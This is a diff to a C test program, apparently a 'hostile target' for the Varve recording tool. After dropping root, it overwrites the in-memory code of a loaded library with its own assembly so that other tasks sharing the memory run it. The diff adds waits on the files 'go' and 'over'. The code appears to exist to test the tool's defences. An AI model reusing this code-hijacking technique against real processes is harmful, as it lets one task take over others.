@@ -1,9 +1,9 @@
 /*
  * A hostile target: takeover USER FILE
  *
- * Gives up root for good, and then overwrites the code of the library that Varve loaded with code of its own, which makes
+ * Touches a page until there is a file "go" in the current folder. Then it gives up root for good, and then overwrites the code of the library that Varve loaded with code of its own, which makes
  * FILE: whoever else runs in this memory, with whatever rights it has kept, runs that. Itself it goes on without
- * the library, without its stack and without any memory that could be moved.
+ * the library, without its stack and without any memory that could be moved, until there is a file "over".
  */
 #define _GNU_SOURCE
 #include <grp.h>
@@ -32,7 +32,8 @@ asm(".pushsection .data\n"
     "code_end:\n"
     ".popsection");
 
-static const struct timespec second = { 1, 0 };
+static const struct timespec moment = { 0, 1000000 };
+static const char over[] = "over";
 
 int main(int argc, char **argv)
 {
@@ -49,8 +50,7 @@ int main(int argc, char **argv)
 	strcpy(code_path, argv[2]);
 	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
 	*page = 1;
-	/* The recorder finds its helper, and protects pages */
-	for (int i = 0; i < 300; i++) {
+	while (access("go", F_OK)) {
 		usleep(1000);
 		*page += 1;
 	}
@@ -71,15 +71,24 @@ int main(int argc, char **argv)
 	memcpy(text + bytes - (code_end - code_begin), code_begin, code_end - code_begin);
 	/* Wakes whoever waits for an access */
 	*page += 1;
-	asm volatile("	mov $35, %%eax\n"
+	asm volatile("1:	mov $21, %%eax\n"
+		     "	lea %1, %%rdi\n"
+		     "	xor %%esi, %%esi\n"
+		     "	syscall\n"
+		     "	test %%eax, %%eax\n"
+		     "	jz 2f\n"
+		     "	mov $35, %%eax\n"
 		     "	lea %0, %%rdi\n"
 		     "	xor %%esi, %%esi\n"
 		     "	syscall\n"
+		     "	jmp 1b\n"
+		     "2:\n"
 		     "	mov $231, %%eax\n"
 		     "	xor %%edi, %%edi\n"
 		     "	syscall\n"
 		     "	hlt\n"
 		     :
-		     : "m"(second));
+		     : "m"(moment), "m"(over)
+		     : "rax", "rcx", "rdi", "rsi", "r11");
 	__builtin_unreachable();
 }
